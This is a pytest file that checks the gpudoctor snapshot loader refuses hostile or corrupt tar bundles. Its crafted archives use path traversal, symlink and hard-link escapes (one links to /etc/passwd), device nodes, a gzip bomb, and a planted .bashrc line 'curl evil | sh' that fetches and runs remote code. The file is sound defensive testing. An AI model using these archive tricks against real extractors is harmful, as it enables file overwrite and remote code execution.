"""Hostile and damaged bundles are refused with a clear error, and nothing lands outside the private temp dir.

Every archive here is crafted with tarfile or raw bytes. Each case points its payload at a canary
directory next to the temp dir (by ``..`` traversal, an absolute name, or a link), and each test checks
that the canary stayed empty and that the private extraction directory was removed.
"""

from __future__ import annotations

import gzip
import os
import tarfile
import tempfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from gpudoctor.host.open import HostOpenError, open_host
from gpudoctor.snapshot import safety
from gpudoctor.snapshot.replay import open_snapshot
from gpudoctor.snapshot.safety import CorruptSnapshot, SnapshotError, UnsafeSnapshot
from tests.scenarios.hosts import run_gpudoctor
from tests.snapshot.helpers import (
    Member,
    base_members,
    directory,
    manifest_for,
    reg,
    special,
    write_tar,
)


@pytest.fixture
def sandbox(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[tuple[Path, Path]]:
    """(private temp base, canary dir). tempfile's base is tmp_path/tmp; the canary sits beside it."""
    tmp = tmp_path / "tmp"
    canary = tmp_path / "outside"
    tmp.mkdir()
    canary.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(tmp))
    yield tmp, canary
    # Nothing escaped, and the extraction directory was removed.
    assert list(canary.iterdir()) == []
    assert list(tmp.iterdir()) == []


def _refused(archive: Path, kind: type[SnapshotError], *texts: str) -> str:
    with pytest.raises(kind) as info, open_snapshot(str(archive)):
        pytest.fail("a hostile bundle was opened")
    message = str(info.value)
    assert message.startswith(f"{archive}: "), message
    for text in texts:
        assert text in message, message
    return message


# -- member names ------------------------------------------------------------------------------------------


def test_traversal_member_is_refused(tmp_path: Path, sandbox: tuple[Path, Path]) -> None:
    archive = write_tar(tmp_path / "t.tar.gz", [*base_members(), reg("root/../../../outside/pwned", b"owned")])
    _refused(archive, UnsafeSnapshot, "unsafe snapshot, not replayed", "path traversal", "root/../../../outside/pwned")


def test_traversal_at_the_top_is_refused(tmp_path: Path, sandbox: tuple[Path, Path]) -> None:
    archive = write_tar(tmp_path / "t.tar.gz", [reg("../../outside/pwned", b"owned"), *base_members()])
    _refused(archive, UnsafeSnapshot, "path traversal")


def test_absolute_member_is_refused(tmp_path: Path, sandbox: tuple[Path, Path]) -> None:
    _tmp, canary = sandbox
    archive = write_tar(tmp_path / "a.tar.gz", [*base_members(), reg(str(canary / "pwned"), b"owned")])
    _refused(archive, UnsafeSnapshot, "absolute path")


def test_member_outside_the_layout_is_refused(tmp_path: Path, sandbox: tuple[Path, Path]) -> None:
    archive = write_tar(tmp_path / "l.tar.gz", [*base_members(), reg(".bashrc", b"curl evil | sh\n")])
    _refused(archive, UnsafeSnapshot, "not part of a gpudoctor snapshot")


def test_duplicate_member_is_refused(tmp_path: Path, sandbox: tuple[Path, Path]) -> None:
    archive = write_tar(tmp_path / "d.tar.gz", [*base_members(), reg("root/etc/os-release", b"ID=evil\n")])
    _refused(archive, UnsafeSnapshot, "appears twice")


# -- links -------------------------------------------------------------------------------------------------


def test_absolute_symlink_is_refused(tmp_path: Path, sandbox: tuple[Path, Path]) -> None:
    _tmp, canary = sandbox
    members = [*base_members(), special("root/escape", tarfile.SYMTYPE, linkname=str(canary)),
               reg("root/escape/pwned", b"owned")]
    _refused(write_tar(tmp_path / "s.tar.gz", members), UnsafeSnapshot, "symlink to an absolute path", "root/escape")


def test_relative_symlink_climbing_out_is_refused(tmp_path: Path, sandbox: tuple[Path, Path]) -> None:
    members = [*base_members(), special("root/etc/escape", tarfile.SYMTYPE, linkname="../../../../outside"),
               reg("root/etc/escape/pwned", b"owned")]
    _refused(write_tar(tmp_path / "r.tar.gz", members), UnsafeSnapshot, "climbs out of root/")


@pytest.mark.parametrize("python_filter", [True, False], ids=["with-tarfile-filter", "own-checks-only"])
@pytest.mark.parametrize("target", ["up/../../outside", "up/../report.json"])
def test_symlink_chain_that_escapes_through_another_link_is_refused(
        target: str, python_filter: bool, tmp_path: Path, sandbox: tuple[Path, Path],
        monkeypatch: pytest.MonkeyPatch) -> None:
    # Each target looks harmless on its own: `up` points at root/, and `t` is up/../x. The OS resolves
    # root/a/b/up/.. to the bundle directory (outside root/), or further up. Without Python's data filter
    # (3.10 before 3.10.12) gpudoctor's own resolution check must catch both.
    if not python_filter:
        monkeypatch.delattr(tarfile, "data_filter", raising=False)
    members = [*base_members(), directory("root/a"), directory("root/a/b"),
               special("root/a/b/up", tarfile.SYMTYPE, linkname="../.."),
               special("root/a/b/t", tarfile.SYMTYPE, linkname=target)]
    message = _refused(write_tar(tmp_path / "c.tar.gz", members), UnsafeSnapshot, "root/a/b/t")
    assert "outside" in message


def test_member_below_a_symlink_is_refused(tmp_path: Path, sandbox: tuple[Path, Path]) -> None:
    # root/d is a valid link (to root/ itself), but no member may be written through a link.
    members = [*base_members(), special("root/d", tarfile.SYMTYPE, linkname="."), reg("root/d/pwned", b"owned")]
    _refused(write_tar(tmp_path / "b.tar.gz", members), UnsafeSnapshot, "root/d/pwned", "not a directory")


def test_symlink_outside_root_is_refused(tmp_path: Path, sandbox: tuple[Path, Path]) -> None:
    members = [*base_members(), special("diagnostics/x", tarfile.SYMTYPE, linkname="../report.json")]
    _refused(write_tar(tmp_path / "o.tar.gz", members), UnsafeSnapshot, "symlink outside root/")


def test_hardlink_pointing_out_is_refused(tmp_path: Path, sandbox: tuple[Path, Path]) -> None:
    members = [*base_members(), special("root/etc/passwd", tarfile.LNKTYPE, linkname="/etc/passwd")]
    _refused(write_tar(tmp_path / "h.tar.gz", members), UnsafeSnapshot, "hard link", "/etc/passwd")


def test_hardlink_inside_is_refused_too(tmp_path: Path, sandbox: tuple[Path, Path]) -> None:
    members = [*base_members(), special("root/etc/copy", tarfile.LNKTYPE, linkname="root/etc/os-release")]
    _refused(write_tar(tmp_path / "h2.tar.gz", members), UnsafeSnapshot, "hard link")


# -- special files -----------------------------------------------------------------------------------------


@pytest.mark.parametrize(("kind", "text"), [
    (tarfile.CHRTYPE, "device node member"),
    (tarfile.BLKTYPE, "device node member"),
    (tarfile.FIFOTYPE, "FIFO member"),
])
def test_device_and_fifo_members_are_refused(kind: bytes, text: str, tmp_path: Path,
                                             sandbox: tuple[Path, Path]) -> None:
    members = [*base_members(), directory("root/dev"), special("root/dev/sda", kind, devmajor=8, devminor=0)]
    _refused(write_tar(tmp_path / "dev.tar.gz", members), UnsafeSnapshot, text, "root/dev/sda")


# -- size and count caps ----------------------------------------------------------------------------------


def test_decompression_past_the_size_cap_is_refused(tmp_path: Path, sandbox: tuple[Path, Path]) -> None:
    # 4 MiB of zeros compresses to a few KiB: a small gzip bomb against a 1 MiB cap.
    members = [*base_members(), reg("root/etc/bomb", b"\0" * (4 * 1024 * 1024))]
    archive = write_tar(tmp_path / "bomb.tar.gz", members)
    assert archive.stat().st_size < 64 * 1024
    with pytest.raises(UnsafeSnapshot, match="decompresses to more than 1 MiB"), \
            open_snapshot(str(archive), max_bytes=1024 * 1024):
        pytest.fail("opened")


def test_zeros_after_the_end_count_against_the_cap(tmp_path: Path, sandbox: tuple[Path, Path]) -> None:
    """A valid small bundle followed by megabytes of zero padding still hits the cap (the drain counts)."""
    archive = write_tar(tmp_path / "pad.tar", base_members(), gz=False)
    with open(archive, "ab") as fh:
        fh.write(b"\0" * (3 * 1024 * 1024))
    with pytest.raises(UnsafeSnapshot, match="decompresses to more than 2 MiB"), \
            open_snapshot(str(archive), max_bytes=2 * 1024 * 1024):
        pytest.fail("opened")


def test_the_default_caps_apply_to_the_cli(tmp_path: Path, sandbox: tuple[Path, Path],
                                           monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    from gpudoctor.cli import main

    monkeypatch.setattr(safety, "MAX_TOTAL_BYTES", 1024 * 1024)
    archive = write_tar(tmp_path / "bomb.tar.gz", [*base_members(), reg("root/etc/bomb", b"\0" * (2 * 1024 * 1024))])
    assert main(["--check", "--root", str(archive)]) == 2
    err = capsys.readouterr().err
    assert err.startswith(f"gpudoctor: {archive}: unsafe snapshot, not replayed: it decompresses to more than 1 MiB")


def test_too_many_members_is_refused(tmp_path: Path, sandbox: tuple[Path, Path]) -> None:
    members = [*base_members(), *(reg(f"root/etc/f{i}", b"") for i in range(50))]
    with pytest.raises(UnsafeSnapshot, match="more than 20 members"), \
            open_snapshot(str(write_tar(tmp_path / "many.tar.gz", members)), max_members=20):
        pytest.fail("opened")


# -- truncated and corrupt archives ------------------------------------------------------------------------


def _good(tmp_path: Path, *, gz: bool = True) -> Path:
    members = [*base_members(), reg("root/etc/big", os.urandom(64 * 1024))]
    return write_tar(tmp_path / ("good.tar.gz" if gz else "good.tar"), members, gz=gz)


def test_the_crafted_baseline_is_accepted(tmp_path: Path, sandbox: tuple[Path, Path]) -> None:
    """The archives below are this one, damaged: undamaged, it opens (so each refusal is the damage's)."""
    for gz in (True, False):
        with open_snapshot(str(_good(tmp_path, gz=gz))) as facts:
            assert facts.root.read_text("/etc/os-release").startswith("ID=debian")
            assert facts.replay


def test_truncated_gzip_is_refused(tmp_path: Path, sandbox: tuple[Path, Path]) -> None:
    good = _good(tmp_path).read_bytes()
    bad = tmp_path / "trunc.tar.gz"
    bad.write_bytes(good[: len(good) // 2])
    _refused(bad, CorruptSnapshot, "truncated or corrupt")


def test_gzip_crc_error_is_refused(tmp_path: Path, sandbox: tuple[Path, Path]) -> None:
    data = bytearray(_good(tmp_path).read_bytes())
    data[-8] ^= 0xFF  # the CRC32 in the gzip trailer
    bad = tmp_path / "crc.tar.gz"
    bad.write_bytes(bytes(data))
    _refused(bad, CorruptSnapshot, "truncated or corrupt", "CRC")


def test_corrupt_deflate_data_is_refused(tmp_path: Path, sandbox: tuple[Path, Path]) -> None:
    data = bytearray(_good(tmp_path).read_bytes())
    for i in range(200, 260):
        data[i] ^= 0x5A
    bad = tmp_path / "deflate.tar.gz"
    bad.write_bytes(bytes(data))
    _refused(bad, CorruptSnapshot, "truncated or corrupt")


def test_truncated_plain_tar_is_refused(tmp_path: Path, sandbox: tuple[Path, Path]) -> None:
    good = _good(tmp_path, gz=False).read_bytes()
    bad = tmp_path / "trunc.tar"
    bad.write_bytes(good[:3000])
    _refused(bad, CorruptSnapshot, "truncated or corrupt")


def test_garbage_tar_header_in_the_middle_is_refused(tmp_path: Path, sandbox: tuple[Path, Path]) -> None:
    good = bytearray(_good(tmp_path, gz=False).read_bytes())
    # Find the header of root/etc/big and overwrite it with garbage: tarfile alone would stop there quietly.
    offset = good.index(b"root/etc/big")
    offset -= offset % 512
    good[offset : offset + 512] = os.urandom(512)
    bad = tmp_path / "garbage.tar"
    bad.write_bytes(bytes(good))
    _refused(bad, CorruptSnapshot, "truncated or corrupt")


def test_garbage_tar_header_inside_gzip_is_refused(tmp_path: Path, sandbox: tuple[Path, Path]) -> None:
    raw = bytearray(gzip.decompress(_good(tmp_path).read_bytes()))
    offset = raw.index(b"report.json")
    offset -= offset % 512
    raw[offset : offset + 512] = b"\xff" * 512
    bad = tmp_path / "garbage.tar.gz"
    bad.write_bytes(gzip.compress(bytes(raw)))
    _refused(bad, CorruptSnapshot, "truncated or corrupt")


@pytest.mark.parametrize("payload", [b"", b"not a tar at all\n" * 40, os.urandom(4096)], ids=["empty", "text", "random"])
def test_not_an_archive_is_refused(payload: bytes, tmp_path: Path, sandbox: tuple[Path, Path]) -> None:
    bad = tmp_path / "junk.tar.gz"
    bad.write_bytes(payload)
    _refused(bad, CorruptSnapshot, "truncated or corrupt")


def test_missing_archive_is_a_clear_error(tmp_path: Path, sandbox: tuple[Path, Path]) -> None:
    _refused(tmp_path / "nope.tar.gz", SnapshotError, "the file cannot be opened (No such file or directory)")


# -- the manifest ------------------------------------------------------------------------------------------


def test_member_missing_from_the_manifest_is_refused(tmp_path: Path, sandbox: tuple[Path, Path]) -> None:
    members = base_members()
    body = [*members, manifest_for(members), reg("root/etc/sneaky", b"x")]
    _refused(write_tar(tmp_path / "extra.tar.gz", body, manifest=False), CorruptSnapshot,
             "'root/etc/sneaky' is not listed in the manifest")


def test_content_not_matching_the_manifest_is_refused(tmp_path: Path, sandbox: tuple[Path, Path]) -> None:
    members = base_members()
    manifest = manifest_for(members)
    tampered = [m if m[0].name != "root/etc/os-release" else reg("root/etc/os-release", b"ID=evil\n")
                for m in members]
    _refused(write_tar(tmp_path / "sha.tar.gz", [*tampered, manifest], manifest=False), CorruptSnapshot,
             "'root/etc/os-release'", "sha256")


def test_listed_member_missing_from_the_archive_is_refused(tmp_path: Path, sandbox: tuple[Path, Path]) -> None:
    members = base_members()
    manifest = manifest_for([*members, reg("root/etc/lost", b"x")])
    _refused(write_tar(tmp_path / "lost.tar.gz", [*members, manifest], manifest=False), CorruptSnapshot,
             "'root/etc/lost' is in the manifest but not in the archive")


def test_bundle_without_manifest_is_refused(tmp_path: Path, sandbox: tuple[Path, Path]) -> None:
    _refused(write_tar(tmp_path / "nomanifest.tar.gz", base_members(), manifest=False), CorruptSnapshot,
             "no manifest.json")


@pytest.mark.parametrize(("manifest", "text"), [
    (b"{not json", "not valid JSON"),
    (b'{"format": "something/9", "members": []}', "this gpudoctor reads gpudoctor.snapshot/1"),
    (b"[]", "not a JSON object"),
])
def test_bad_manifest_is_refused(manifest: bytes, text: str, tmp_path: Path, sandbox: tuple[Path, Path]) -> None:
    body = [*base_members(), reg("manifest.json", manifest)]
    _refused(write_tar(tmp_path / "m.tar.gz", body, manifest=False), CorruptSnapshot, text)


def test_bad_host_metadata_is_refused(tmp_path: Path, sandbox: tuple[Path, Path]) -> None:
    import json

    members = base_members()
    info, data = manifest_for(members)
    doc = json.loads(data or b"{}")
    doc["members"][2]["host"]["mode"] = "rwxrwxrwx"
    _refused(write_tar(tmp_path / "meta.tar.gz", [*members, reg("manifest.json", json.dumps(doc).encode())],
                       manifest=False), CorruptSnapshot, "root/etc/os-release", "mode must be a number")


# -- what the user sees ------------------------------------------------------------------------------------


def test_cli_refuses_a_hostile_bundle_with_exit_2(tmp_path: Path) -> None:
    archive = write_tar(tmp_path / "evil.tar.gz", [*base_members(), reg("root/../../x", b"owned")])
    for args in (["--check"], ["--check", "--json"], []):
        run = run_gpudoctor([*args, "--root", str(archive)])
        assert run.returncode == 2, run
        assert run.stdout == ""
        assert "Traceback" not in run.stderr
        assert f"gpudoctor: {archive}: unsafe snapshot, not replayed: member 'root/../../x': path traversal" \
            in run.stderr


def test_open_host_raises_a_host_open_error(tmp_path: Path, sandbox: tuple[Path, Path]) -> None:
    archive = write_tar(tmp_path / "evil.tgz", [*base_members(), special("root/x", tarfile.CHRTYPE)])
    with pytest.raises(HostOpenError, match="device node member"), open_host(str(archive)):
        pytest.fail("opened")


def test_tui_refuses_a_hostile_bundle_before_the_screen_opens(tmp_path: Path,
                                                              capsys: pytest.CaptureFixture[str]) -> None:
    pytest.importorskip("textual")
    from gpudoctor.cli import build_parser
    from gpudoctor.tui.app import run_tui

    archive = write_tar(tmp_path / "evil.tar", [*base_members(), special("root/p", tarfile.FIFOTYPE)], gz=False)
    args = build_parser().parse_args(["--root", str(archive)])
    assert run_tui(args) == 2
    assert "FIFO member" in capsys.readouterr().err


def test_write_tar_helper_makes_what_it_says(tmp_path: Path) -> None:
    """The crafted archives really hold the hostile members (tarfile reads them back as written)."""
    members: list[Member] = [reg("root/../x"), special("root/l", tarfile.SYMTYPE, linkname="/etc"),
                             special("root/h", tarfile.LNKTYPE, linkname="/etc/passwd")]
    path = write_tar(tmp_path / "x.tar.gz", members)
    with tarfile.open(path) as tf:
        got = {m.name: (m.type, m.linkname) for m in tf.getmembers()}
    assert got["root/../x"] == (tarfile.REGTYPE, "")
    assert got["root/l"] == (tarfile.SYMTYPE, "/etc")
    assert got["root/h"] == (tarfile.LNKTYPE, "/etc/passwd")
